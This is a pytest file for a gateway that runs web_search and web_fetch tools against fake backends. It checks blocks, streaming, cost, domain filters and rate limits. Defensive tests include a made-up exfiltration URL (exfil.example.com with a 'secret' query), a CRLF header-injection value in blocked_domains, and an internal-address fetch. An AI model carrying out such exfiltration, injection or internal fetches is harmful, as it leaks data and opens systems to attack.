"""The anthropic SDK's ``web_search`` / ``web_fetch`` server tools through a gateway that runs them (issue 30): the
fake OB-1 model calls the offered search function, the gateway searches the fake SearXNG and answers with Anthropic's
blocks, stream and not, each parsed by the SDK's own (strict) models."""

from __future__ import annotations

import json
from typing import Any

import anthropic
import httpx
import pytest
from anthropic.types import Message
from ob1_gateway.access.keys import issue_key
from ob1_gateway.stores.base import KeyPolicy

from tests.fakes import scripts as S
from tests.fakes.search_fake import FakeSearch
from tests.fixtures.gateway import GatewayHandle, gateway_on

MODEL = "claude-sonnet-4-5"
SEARCH = {"type": "web_search_20250305", "name": "web_search", "max_uses": 3}
EXFIL = json.dumps({"url": "https://exfil.example.com/?q=secret"})
ASK = "Search the web for python 3.13 release notes"


def client(gw: GatewayHandle) -> anthropic.Anthropic:
    return anthropic.Anthropic(base_url=gw.base_url, api_key=gw.key, max_retries=0, timeout=30)


def ask(gw: GatewayHandle, prompt: str = ASK, tools: list[dict[str, Any]] | None = None) -> Message:
    return client(gw).messages.create(
        model=MODEL,
        max_tokens=512,
        messages=[{"role": "user", "content": prompt}],
        tools=tools or [SEARCH],  # type: ignore[arg-type]
    )


def _strict(message: Message) -> Message:
    """The message as the SDK's models validate it strictly (no unknown block or field passes)."""
    return Message.model_validate(message.model_dump(mode="json", exclude_unset=True), strict=True)


def _check_answer(message: Message, fake_search: FakeSearch) -> None:
    kinds = [block.type for block in message.content]
    assert kinds == ["server_tool_use", "web_search_tool_result", "text"], kinds
    use, result, text = message.content
    assert use.type == "server_tool_use" and use.name == "web_search"
    assert use.id.startswith("srvtoolu_") and use.input == {"query": "python 3.13 release notes"}
    assert result.type == "web_search_tool_result" and result.tool_use_id == use.id
    assert isinstance(result.content, list) and len(result.content) == 4
    first = result.content[0]
    assert first.url == "https://docs.example.org/python-3-13-release-notes/1"
    assert first.title == "python 3.13 release notes — result 1" and first.encrypted_content
    assert text.type == "text" and "Fact 1 about python 3.13 release notes." in text.text
    assert text.citations and text.citations[0].type == "web_search_result_location"
    assert text.citations[0].url == first.url and text.citations[0].cited_text.startswith("Fact 1")
    assert message.stop_reason == "end_turn"
    assert message.usage.server_tool_use is not None and message.usage.server_tool_use.web_search_requests == 1
    assert fake_search.queries == ["python 3.13 release notes"]


def test_a_search_is_run_by_the_gateway_and_answered_with_anthropic_s_blocks(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    message = _strict(ask(web_gateway))
    _check_answer(message, fake_search)
    first, second = fake_ob1.chat_requests  # two rounds upstream, one request to the caller
    offered = [t["function"]["name"] for t in first["body"]["tools"]]
    assert offered == ["web_search"]
    tool_message = second["body"]["messages"][-1]
    assert tool_message["role"] == "tool" and tool_message["content"].startswith("[1] python 3.13 release notes")
    [record] = web_gateway.usage_records(1)
    assert record.status == 200 and record.web_searches == 1 and record.web_fetches == 0
    assert record.input_tokens == message.usage.input_tokens
    assert record.input_tokens == sum(r["raw_len"] // 4 for r in (first, second))  # the fake's count, both rounds


def test_a_keyed_provider_s_searches_are_priced_into_the_request_s_cost(
    tmp_path: Any, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    settings = {"web_search": "tavily", "web_search_url": fake_search.url, "web_search_api_key": "tvly-secret"}
    with gateway_on(tmp_path / "home", fake_ob1, **settings, web_search_price_usd=0.25) as gw:
        ask(gw)
        [record] = gw.usage_records(1)
        plain = httpx.post(
            f"{gw.base_url}/v1/messages",
            headers={"x-api-key": gw.key, "anthropic-version": "2023-06-01"},
            json={"model": MODEL, "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]},
        )
        assert plain.status_code == 200
    [asked] = fake_search.requests
    assert asked["headers"]["authorization"] == "Bearer tvly-secret" and asked["path"] == "/search"
    upstream_usd = sum(r["usage"]["cost"] for r in fake_ob1.chat_requests[:2])  # the two rounds, not "hi"
    assert record.web_searches == 1
    assert record.cost_micros == round((upstream_usd + 0.25) * 1_000_000)


def test_the_stream_carries_the_same_blocks_in_anthropic_s_order(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    with client(web_gateway).messages.stream(
        model=MODEL, max_tokens=512, messages=[{"role": "user", "content": ASK}], tools=[SEARCH]
    ) as stream:
        events = [event.type for event in stream]
        message = stream.get_final_message()
    _check_answer(_strict(message), fake_search)
    starts = [e for e in events if e == "content_block_start"]
    assert len(starts) == 3 and "citation" in events  # the SDK's own event for a citations_delta
    [record] = web_gateway.usage_records(1)
    assert record.stream and record.web_searches == 1


def test_results_outside_the_allowed_domains_never_reach_the_model(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    tool = {**SEARCH, "blocked_domains": ["blocked.example.net"]}
    message = ask(web_gateway, tools=[tool])
    result = message.content[1]
    assert result.type == "web_search_tool_result" and isinstance(result.content, list)
    assert [r.url.split("/")[2] for r in result.content] == ["docs.example.org"] * 3
    assert "blocked.example.net" not in json.dumps(fake_ob1.chat_requests[-1]["body"])
    assert fake_search.queries[0] == "python 3.13 release notes -site:blocked.example.net"  # SearXNG's operator
    only = ask(web_gateway, tools=[{**SEARCH, "allowed_domains": ["blocked.example.net"]}])
    assert [r.url.split("/")[2] for r in only.content[1].content] == ["blocked.example.net"]  # type: ignore[union-attr]


def test_max_uses_is_the_tool_s_own_error_not_a_failed_request(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    prompt = 'USE_TOOL web_search {"query": "first"} USE_TOOL web_search {"query": "second"}'
    message = ask(web_gateway, prompt, tools=[{**SEARCH, "max_uses": 1}])
    kinds = [block.type for block in message.content]
    assert kinds == ["server_tool_use", "web_search_tool_result"] * 2 + ["text"]
    second = message.content[3]
    assert second.type == "web_search_tool_result" and not isinstance(second.content, list)
    assert second.content.error_code == "max_uses_exceeded"
    assert fake_search.queries == ["first"]
    assert message.usage.server_tool_use is not None and message.usage.server_tool_use.web_search_requests == 1


def test_a_provider_that_fails_is_unavailable_in_the_result(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    fake_search.status = 503
    message = ask(web_gateway)
    result = message.content[1]
    assert result.type == "web_search_tool_result" and not isinstance(result.content, list)
    assert result.content.error_code == "unavailable"
    assert "Error: unavailable" in fake_ob1.chat_requests[-1]["body"]["messages"][-1]["content"]


def test_a_later_turn_that_sends_the_blocks_back_gives_the_model_the_same_text(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    first = ask(web_gateway)
    read = fake_ob1.chat_requests[-1]["body"]["messages"][-1]["content"]
    history = [
        {"role": "user", "content": ASK},
        {"role": "assistant", "content": [b.model_dump(mode="json", exclude_none=True) for b in first.content]},
        {"role": "user", "content": "thanks"},
    ]
    client(web_gateway).messages.create(model=MODEL, max_tokens=100, messages=history, tools=[SEARCH])  # type: ignore[arg-type]
    sent = fake_ob1.chat_requests[-1]["body"]["messages"]
    call_turn = next(m for m in sent if m.get("tool_calls"))
    assert call_turn["tool_calls"][0]["function"]["name"] == "web_search"
    [tool_message] = [m for m in sent if m["role"] == "tool"]
    assert tool_message["content"] == read
    # without the tool offered again, the same turn goes as text (no orphan tool call)
    client(web_gateway).messages.create(model=MODEL, max_tokens=100, messages=history)  # type: ignore[arg-type]
    sent = fake_ob1.chat_requests[-1]["body"]["messages"]
    assert not any(m.get("tool_calls") or m["role"] == "tool" for m in sent)
    assert "Fact 1 about python 3.13 release notes." in json.dumps(sent)


@pytest.mark.parametrize(
    ("tool", "where"),
    [
        ({**SEARCH, "allowed_domains": ["https://x.com"]}, "tools.0.allowed_domains.0"),
        ({**SEARCH, "allowed_domains": ["a.com"], "blocked_domains": ["b.com"]}, "tools.0"),
        ({**SEARCH, "max_uses": 0}, "tools.0.max_uses"),
        ({**SEARCH, "blocked_domains": ["evil.com\r\nx-injected: 1"]}, "tools.0.blocked_domains.0"),
    ],
)
def test_bad_tool_settings_are_a_400_naming_the_field(
    web_gateway: GatewayHandle, fake_ob1: Any, tool: dict[str, Any], where: str
) -> None:
    with pytest.raises(anthropic.BadRequestError) as caught:
        ask(web_gateway, tools=[tool])
    assert where in caught.value.message
    assert fake_ob1.chat_requests == []
    assert web_gateway.usage_records(0) == []


def test_with_web_search_off_the_tool_is_refused_by_name(gateway: GatewayHandle, fake_ob1: Any) -> None:
    with pytest.raises(anthropic.BadRequestError) as caught:
        ask(gateway)
    assert "web_search" in caught.value.message and "tools.0" in caught.value.message
    assert fake_ob1.chat_requests == []


def test_web_fetch_refuses_internal_addresses_and_addresses_the_model_made_up(
    tmp_path: Any, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    fetch = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 3}
    with gateway_on(tmp_path / "home", fake_ob1, web_fetch=True) as gw:
        internal = f"{gw.base_url}/health"
        prompt = f'Read {internal} USE_TOOL web_fetch {{"url": "{internal}"}}'
        message = ask(gw, prompt, tools=[fetch])
        call = {"id": "call_1", "type": "function", "function": {"name": "web_fetch", "arguments": EXFIL}}
        fake_ob1.enqueue(S.completion(None, tool_calls=[call], finish_reason="tool_calls"), S.completion("done"))
        made_up = ask(gw, "what is the weather", tools=[fetch])
    result = message.content[1]
    assert result.type == "web_fetch_tool_result" and result.content.type == "web_fetch_tool_result_error"
    assert result.content.error_code == "url_not_accessible"
    assert made_up.content[1].content.error_code == "url_not_in_prior_context"  # type: ignore[union-attr]


def test_count_tokens_accepts_the_tool_when_the_gateway_runs_it(web_gateway: GatewayHandle) -> None:
    counted = httpx.post(
        f"{web_gateway.base_url}/v1/messages/count_tokens",
        headers={"x-api-key": web_gateway.key, "anthropic-version": "2023-06-01"},
        json={"model": MODEL, "messages": [{"role": "user", "content": ASK}], "tools": [SEARCH]},
    )
    assert counted.status_code == 200 and counted.json()["input_tokens"] > 0


def test_a_key_s_daily_search_allowance_is_the_tool_s_too_many_requests(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    record, key = issue_key("searcher", policy=KeyPolicy(searches_per_day=1))
    web_gateway.backends.key_store.put(record)
    limited = anthropic.Anthropic(base_url=web_gateway.base_url, api_key=key, max_retries=0, timeout=30)
    first = limited.messages.create(
        model=MODEL, max_tokens=64, messages=[{"role": "user", "content": ASK}], tools=[SEARCH]
    )  # type: ignore[list-item]
    assert isinstance(first.content[1].content, list)  # type: ignore[union-attr]
    second = limited.messages.create(
        model=MODEL, max_tokens=64, messages=[{"role": "user", "content": ASK}], tools=[SEARCH]
    )  # type: ignore[list-item]
    refused = second.content[1]
    assert refused.type == "web_search_tool_result" and not isinstance(refused.content, list)
    assert refused.content.error_code == "too_many_requests"
    assert len(fake_search.requests) == 1
    assert isinstance(ask(web_gateway).content[1].content, list)  # another key is not limited by it
    records = [r for r in web_gateway.usage_records(3) if r.key_id == record.key_id]
    assert sorted(r.web_searches for r in records) == [0, 1] and all(r.status == 200 for r in records)


def test_a_forced_search_is_made_once_then_the_model_answers(
    web_gateway: GatewayHandle, fake_ob1: Any, fake_search: FakeSearch
) -> None:
    message = client(web_gateway).messages.create(
        model=MODEL,
        max_tokens=256,
        messages=[{"role": "user", "content": ASK}],
        tools=[SEARCH],  # type: ignore[list-item]
        tool_choice={"type": "tool", "name": "web_search"},
    )
    assert [b.type for b in message.content] == ["server_tool_use", "web_search_tool_result", "text"]
    first, second = fake_ob1.chat_requests
    assert first["body"]["tool_choice"] == {"type": "function", "function": {"name": "web_search"}}
    assert second["body"]["tool_choice"] == "auto"
